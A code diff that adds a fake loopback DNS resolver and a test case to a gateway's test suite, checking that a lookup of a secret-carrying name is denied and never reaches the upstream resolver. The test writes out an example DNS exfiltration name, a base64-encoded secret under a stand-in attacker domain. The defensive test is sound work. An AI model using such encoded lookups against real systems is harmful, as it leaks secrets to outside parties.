@@ -1252,6 +1252,73 @@ def no_stub(st):
     return st.get("error") in ("ECONNREFUSED", "TIMEOUT")
 
 
+class FakeResolver:
+    """A DNS server on a free loopback UDP port that records every query
+    name and answers NXDOMAIN: host-side evidence of what the gateway asked
+    its upstream resolver."""
+
+    def __init__(self):
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.names = []
+        self.stop = False
+        self.thread = threading.Thread(target=self.serve, daemon=True)
+
+    def serve(self):
+        while not self.stop:
+            try:
+                msg, peer = self.sock.recvfrom(4096)
+            except OSError:
+                continue
+            labels, i = [], 12
+            while i < len(msg) and msg[i]:
+                labels.append(msg[i + 1:i + 1 + msg[i]].decode("ascii", "replace"))
+                i += 1 + msg[i]
+            self.names.append(".".join(labels).lower())
+            flags = bytes([0x81, 0x83])  # QR, RD, RA, NXDOMAIN
+            self.sock.sendto(msg[:2] + flags + msg[4:12] + msg[12:i + 5], peer)
+
+    def __enter__(self):
+        self.thread.start()
+        return self
+
+    def __exit__(self, *exc):
+        self.stop = True
+        self.thread.join()
+        self.sock.close()
+
+
+@case
+def dns_exfiltration_never_leaves(e):
+    """A lookup of an unlisted name that carries a secret never leaves the
+    gateway: with the gateway's upstream resolver set to a fake one on
+    loopback (--resolver), the fake sees no query for it, while it does see
+    the query for an allowed name that network.hosts does not map (the
+    positive control: the gateway really asks it)."""
+    exfil = "c2VjcmV0LWtleQ.exfil.attacker.test"
+    with FakeResolver() as fake:
+        steps = [{"op": "dns", "label": "exfil", "name": exfil, "id": 0x4321},
+                 {"op": "resolve", "label": "exfil-resolve", "name": exfil},
+                 {"op": "curl", "label": "allowed",
+                  "args": ["http://allowed-unmapped.test:9/"]}]
+        r = gw_run(e, steps, ["--allow", "allowed-unmapped.test:9",
+                              "--resolver", "127.0.0.1:%d" % fake.port])
+        if no_stub(r.step("exfil")):
+            raise Skip("no DNS stub on 127.0.0.1:53 inside yet")
+        time.sleep(0.3)
+        r.expect(r.step("exfil").get("rcode") == 3, "exfil name: %s" % r.step("exfil"))
+        r.expect(not any("exfil" in n or "c2vjcmv0" in n for n in fake.names),
+                 "the secret-carrying name reached the upstream resolver: %s" % fake.names)
+        r.expect(any(n == "allowed-unmapped.test" for n in fake.names),
+                 "the gateway never asked the fake resolver (positive control): %s"
+                 % fake.names)
+        r.expect(any(ev.get("event") == "net.dns" and ev.get("name") == exfil.lower()
+                     and ev.get("decision") == "deny" for ev in r.events),
+                 "no net.dns deny event for the exfiltration name")
+
+
 @case
 def dns_stub(e):
     """DNS queries to 127.0.0.1:53 inside a gateway run (raw, over UDP and
